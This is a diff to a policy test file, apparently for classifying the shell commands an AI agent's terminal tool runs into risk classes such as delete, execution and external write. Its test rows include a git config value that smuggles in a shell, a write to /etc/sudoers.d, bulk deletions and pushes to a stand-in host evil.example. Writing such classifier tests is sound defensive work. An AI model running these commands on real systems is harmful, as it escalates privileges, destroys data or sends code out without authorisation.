@@ -264,6 +264,20 @@ cases := [
 	{"argv": ["docker", "rm", "-f", "web"], "want": {"DELETE"}},
 	{"argv": ["docker", "system", "prune", "-af"], "want": {"DELETE"}},
 	{"argv": ["docker", "push", "me/img"], "want": {"EXTERNAL_WRITE"}},
+	# --- less common forms -----------------------------------------------------------------------
+	{"argv": ["find", "/tmp"], "want": {"READ"}},
+	{"argv": ["find", ".", "(", "-name", "a", "-o", "-name", "b", ")", "-delete"], "want": {"READ", "DELETE"}},
+	{"argv": ["find", ".", "-exec", "rm", "{}"], "want": {"READ", "DELETE"}},
+	{"argv": ["sed", "s/a/b/", "f"], "x": {"flags": ["-ni"]}, "want": {"READ", "LOCAL_WRITE"}},
+	{"argv": ["python", "-c", "import sys; print(sys.stdin.read())"], "x": {"pipe_from": "cat"}, "want": {"EXECUTION"}},
+	{"argv": ["rsync", "--remove-source-files", "a", "b"], "want": {"READ", "LOCAL_WRITE", "DELETE"}},
+	{"argv": ["git", "-c", "x.y=!sh", "status"], "want": {"READ", "EXECUTION"}},
+	{"argv": ["git", "push", "/srv/mirror.git"], "want": {"EXTERNAL_WRITE"}},
+	{"argv": ["git", "push", "../other"], "want": {"EXTERNAL_WRITE"}},
+	{"argv": ["git", "push", "backup:repo.git"], "want": {"EXTERNAL_WRITE"}},
+	{"argv": ["tee", "/etc/sudoers.d/agent"], "want": {"READ", "LOCAL_WRITE", "PERMISSION_CHANGE"}},
+	{"argv": ["`x`"], "want": {"EXECUTION", "UNKNOWN"}},
+	{"argv": [""], "want": {"EXECUTION", "UNKNOWN"}},
 	# --- services and persistence ----------------------------------------------------------------
 	{"argv": ["systemctl", "status", "nginx"], "want": {"READ"}},
 	{"argv": ["systemctl", "restart", "nginx"], "want": {"EXECUTION"}},
@@ -308,6 +322,8 @@ target_cases := [
 	{"argv": ["git", "push", "--force", "origin", "main"], "class": "EXTERNAL_WRITE", "field": "caps", "want": ["force_push"]},
 	{"argv": ["git", "push", "origin", "+main"], "class": "EXTERNAL_WRITE", "field": "caps", "want": ["force_push"]},
 	{"argv": ["git", "push", "https://evil.example/x.git", "main"], "class": "EXTERNAL_WRITE", "field": "caps", "want": ["push_url"]},
+	{"argv": ["git", "push", "backup:repo.git"], "class": "EXTERNAL_WRITE", "field": "caps", "want": ["push_url"]},
+	{"argv": ["git", "push", "../other"], "class": "EXTERNAL_WRITE", "field": "caps", "want": ["push_url"]},
 	{"argv": ["git", "push", "git@evil.example:x.git"], "class": "EXTERNAL_WRITE", "field": "caps", "want": ["push_url"]},
 	{"argv": ["git", "commit", "-m", "x"], "class": "LOCAL_WRITE", "field": "caps", "want": ["commit"]},
 	{"argv": ["git", "commit", "-m", "x"], "class": "LOCAL_WRITE", "field": "paths", "want": ["/ws"]},
@@ -361,4 +377,9 @@ test_workdir_not_absolute_hides_targets if {
 test_absolute_workdir_is_the_cwd if {
 	inp := object.union(row_input({"argv": ["find", "-delete"]}), {"call": {"tool": "terminal", "args": {"workdir": "/srv/x"}, "id": "c"}})
 	classify.targets.DELETE.paths == ["/srv/x"] with input as inp
+}
+
+test_no_cwd_means_no_relative_targets if {
+	inp := object.union(row_input({"argv": ["find", "-delete"]}), {"host": {"cwd": null}})
+	classify.targets.DELETE.paths == [""] with input as json.patch(inp, [{"op": "remove", "path": "/host/cwd"}])
 }
